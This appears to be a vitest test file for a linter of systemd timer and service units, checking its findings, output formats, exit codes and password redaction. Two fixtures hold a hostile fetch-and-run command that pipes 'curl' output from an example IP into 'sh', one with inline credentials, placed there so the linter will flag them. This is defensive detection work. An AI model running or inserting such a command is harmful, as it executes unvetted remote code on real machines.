import { chmodSync, existsSync, readdirSync } from "node:fs";
import { userInfo } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import type { AuditReport } from "../../report/envelope.ts";
import { RULES } from "../../rules/index.ts";
import { TEXT_RULES } from "../../rules/text-rules.ts";
import { RunError, UsageError } from "../command.ts";
import { folderOf, run } from "../run.test-support.ts";
import { lint } from "./lint.ts";

/** What lint says of these files, with the folder taken off its lines. */
async function said(files: Readonly<Record<string, string>>, ...args: readonly string[]) {
  const folder = folderOf(files);
  const { status, out } = await run(lint, [folder, ...args]);
  return { status, lines: out.replaceAll(`${folder}/`, "").trimEnd().split("\n") };
}

const GOOD_TIMER = "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n";
const GOOD_SERVICE = "[Service]\nType=oneshot\nExecStart=/usr/bin/backup\n";

describe("what is told, and where", () => {
  test.each<[string, Record<string, string>, string[]]>([
    ["nothing of good units", { "a.timer": GOOD_TIMER, "a.service": GOOD_SERVICE }, []],
    ["nothing of a timer whose service lies elsewhere", { "a.timer": GOOD_TIMER }, []],
    [
      "cron's syntax, with what was meant",
      { "a.timer": GOOD_TIMER.replace("daily", "0 3 * * *") },
      [
        "a.timer:1:1: low[broken-unit]: a.timer: the timer has no valid value to elapse on",
        "a.timer:2:12: info[broken-unit]: a.timer: OnCalendar=0 3 * * * does not count: this looks like cron, not a calendar expression; did you mean *-*-* 03:00:00?",
      ],
    ],
    [
      "what stands where a zone would, and is none",
      {
        "a.timer": GOOD_TIMER.replace("daily", "*-*-* */6:00:00"),
        "b.timer": GOOD_TIMER.replace("daily", "*:0/15 Asia/Shanghai"),
        "c.timer": GOOD_TIMER.replace("daily", "Mon 10:00 PM"),
      },
      [
        "a.timer:1:1: low[broken-unit]: a.timer: the timer has no valid value to elapse on",
        "a.timer:2:18: info[broken-unit]: a.timer: OnCalendar=*-*-* */6:00:00 does not count: a step needs a number to count from, not “*”; did you mean *-*-* 0/6:00:00?",
        "c.timer:1:1: low[broken-unit]: c.timer: the timer has no valid value to elapse on",
        "c.timer:2:16: info[broken-unit]: c.timer: OnCalendar=Mon 10:00 PM does not count: hours are counted from 0 to 23, without AM or PM; did you mean Mon 22:00?",
      ],
    ],
    [
      "a dependency on what is no unit's name",
      {
        "a.timer": GOOD_TIMER,
        "a.service": `[Unit]\nRequires=docker\nAfter=docker network-online.target\n${GOOD_SERVICE}`,
      },
      [
        "a.service:2:10: info[broken-unit]: a.timer: Requires= leaves out docker: 'docker' is no unit name",
        "a.service:3:7: info[broken-unit]: a.timer: After= leaves out docker: 'docker' is no unit name",
      ],
    ],
    [
      "a user's own script, in a unit of users only",
      {
        "dotfiles/.config/systemd/user/a.service": "[Service]\nExecStart=/home/alice/bin/a\n",
        "etc/b.service": "[Service]\nExecStart=/home/alice/bin/b\n",
      },
      [
        "etc/b.service:2:11: high[root-runs-file-in-home]: root runs /home/alice/bin/b, which lies in the home /home/alice",
      ],
    ],
    [
      "a timer that starts what no file holds is read all the same",
      { "a.timer": "[Timer]\nOnCalendar=daily\nUnit=elsewhere.target\nFoo=1\n" },
      ["a.timer:4:5: info[broken-unit]: a.timer: Foo= does not count: unknown key in [Timer]"],
    ],
    [
      "a service no timer starts",
      { "sub/b.service": "[Service]\nExecStart=bin/true\n" },
      [
        "sub/b.service:2:11: low[broken-unit]: b.service: neither an executable's name nor an absolute path: 'bin/true'",
        "sub/b.service:2:11: info[broken-unit]: ExecStart= does not count: neither an executable's name nor an absolute path: 'bin/true'",
      ],
    ],
    [
      "what a template would run",
      { "c@.service": `[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n` },
      ["c@.service:2:52: critical[fetch-and-run]: What is downloaded from http://192.0.2.7/x is run by sh."],
    ],
    [
      "a drop-in of a unit that is not there",
      { "x.service.d/o.conf": "[Service]\nExecStartPost=/dev/shm/x\n" },
      [
        "x.service.d/o.conf:2:15: high[program-in-shared-directory]: x.service runs /dev/shm/x, which lies in /dev/shm/: a memory file system any user can write to, gone after reboot",
      ],
    ],
    [
      "two files of one name",
      {
        "deb/a.timer": "[Timer]\nOnCalendar=daily\nFoo=1\n",
        "rpm/a.timer": "[Timer]\nBar=1\nOnCalendar=daily\n",
      },
      [
        "deb/a.timer:3:5: info[broken-unit]: a.timer: Foo= does not count: unknown key in [Timer]",
        "rpm/a.timer:2:5: info[broken-unit]: a.timer: Bar= does not count: unknown key in [Timer]",
      ],
    ],
  ])("%s", async (_, files, wanted) => {
    const { lines, status } = await said(files);
    expect(lines.slice(0, -1)).toEqual(wanted);
    expect(status).toBe(wanted.some((line) => /: (low|medium|high|critical)\[/.test(line)) ? 10 : 0);
    expect(lines.at(-1)).toMatch(/^\d+ unit files?: (nothing found|\d+ findings?)$/);
  });

  test("a template timer is told once", async () => {
    const { lines } = await said({ "t@.timer": "[Timer]\nOnCalendar=daily\nFoo=1\n" });
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^t@\.timer:3:5: info\[broken-unit\]/);
  });

  test("a directive is unknown to a systemd older than it", async () => {
    const files = { "a.timer": "[Timer]\nOnCalendar=daily\nDeferReactivation=yes\n" };
    expect((await said(files)).lines).toEqual(["1 unit file: nothing found"]);
    expect((await said(files, "--systemd", "252")).lines[0]).toContain("a.timer:3:");
  });

  test("hostile text is shown as codes", async () => {
    const { lines } = await said({ "a.timer": "[Timer]\nOnCalendar=\u001b[2J\u202e\nOnCalendar=daily\n" });
    expect(lines.join("\n")).toContain("\\x1b[2J\\u202e");
    expect(lines.join("")).not.toMatch(/[\u001b\u202e]/);
  });
});

test("what this machine's packages ship passes", { timeout: 60_000 }, async ({ skip }) => {
  const folder = "/usr/lib/systemd/system";
  if (!existsSync(folder) || readdirSync(folder).length < 20) skip("SKIPPED: no systemd is installed here");
  const { out } = await run(lint, [folder, "--min-severity", "low"]);
  expect(out).toMatch(/^\d+ unit files: nothing found\n$/);
});

describe("for programs", () => {
  test("JSON, SARIF and annotations name the files as they were given", async () => {
    const folder = folderOf({ "a.timer": "[Timer]\nOnCalendar=0 3 * * *\n", "a.service": GOOD_SERVICE });
    const tell = async (format: string) =>
      (await run(lint, [folder, "-o", format, "--now", "2026-11-23 06:00:00 UTC"])).out;
    const report = JSON.parse(await tell("json")) as AuditReport;
    expect(report.findings.map(({ evidence }) => evidence[0]?.path)).toEqual(
      report.findings.map(() => `${folder}/a.timer`),
    );
    expect(report.timers.map(({ path }) => path)).toEqual([`${folder}/a.timer`]);
    expect(report.coverage).toMatchObject({ unitFiles: 2, gaps: [], notes: [] });
    expect(await tell("sarif")).toContain(`"uri": "${folder.slice(1)}/a.timer"`);
    expect(await tell("github")).toContain(`file=${folder.slice(1)}/a.timer,line=2`);
    expect(await tell("json")).toBe(await tell("json"));
  });

  test("thresholds", async () => {
    const files = { "a.timer": "[Timer]\nOnCalendar=daily\nFoo=1\n" };
    expect((await said(files)).status).toBe(0);
    expect((await said(files, "--fail-on", "info")).status).toBe(10);
    const broken = { "a.timer": "[Timer]\n" };
    expect((await said(broken)).status).toBe(10);
    expect((await said(broken, "--fail-on", "none")).status).toBe(0);
    expect((await said(broken, "--min-severity", "high")).lines).toEqual(["1 unit file: nothing found"]);
  });
});

describe("what cannot be linted", () => {
  test.each([
    ["no file", [], UsageError, "name unit files"],
    ["a file that is not there", ["/nowhere/a.timer"], UsageError, "does not exist"],
    ["a file that is no unit", ["/etc/hostname"], UsageError, "is no unit file"],
    ["no unit in a folder", ["/etc"], RunError, "no unit files"],
    ["a wrong version", ["/etc", "--systemd", "new"], UsageError, "not a version"],
    ["a wrong moment", ["/etc", "--now", "soon"], UsageError, "--now"],
  ] as const)("%s", async (_, args, kind, message) => {
    const empty = folderOf({ "README.md": "" });
    const failing = run(
      lint,
      args.map((arg) => (arg === "/etc" ? empty : arg)),
    );
    await expect(failing).rejects.toThrow(kind);
    await expect(failing).rejects.toThrow(message);
  });

  test("a file that is too large is a gap, and the exit status is no success", async () => {
    const { status, lines } = await said({ "a.timer": GOOD_TIMER, "b.timer": `#${"x".repeat(1 << 20)}\n` });
    expect(status).toBe(1);
    expect(lines).toContain("b.timer: not read: larger than 1 MiB");
  });
});

test("a folder that cannot be read is a gap, as is one too deep to be a repository's", async () => {
  const deep = `${"d/".repeat(33)}a.timer`;
  const { status, lines } = await said({
    "a.timer": GOOD_TIMER,
    "a.service": GOOD_SERVICE,
    [deep]: GOOD_TIMER,
  });
  expect(status).toBe(1);
  expect(lines.join("\n")).toContain("not read: more than 32 folders deep");
  const { uid } = userInfo();
  const folder = folderOf({ "a.timer": GOOD_TIMER, "a.service": GOOD_SERVICE, "shut/b.timer": GOOD_TIMER });
  chmodSync(join(folder, "shut"), 0);
  const { out } = await run(lint, [folder]);
  chmodSync(join(folder, "shut"), 0o700);
  expect(out.includes("shut: not read: EACCES")).toBe(uid !== 0);
});

test("passwords are blotted out in what is sent around", async () => {
  const files = {
    "a.timer": GOOD_TIMER,
    "a.service": "[Service]\nExecStart=/bin/sh -c 'curl -u anna:hunter22-x http://192.0.2.7/x | sh'\n",
  };
  const folder = folderOf(files);
  for (const format of ["table", "sarif", "github"]) {
    expect((await run(lint, [folder, "-o", format])).out).not.toContain("hunter22");
    expect((await run(lint, [folder, "-o", format, "--no-redact"])).status).toBe(10);
  }
  expect((await run(lint, [folder, "-o", "json"])).out).toContain("hunter22-x");
});

test("the rules for text are rules", () => {
  expect(TEXT_RULES).toHaveLength(42);
  const hostly = ["unpackaged", "forged-file-times", "writable-by-weaker-account", "orphan-timer"];
  for (const id of hostly) {
    expect(RULES.some((rule) => rule.id === id)).toBe(true);
    expect(TEXT_RULES.some((rule) => rule.id === id)).toBe(false);
  }
});
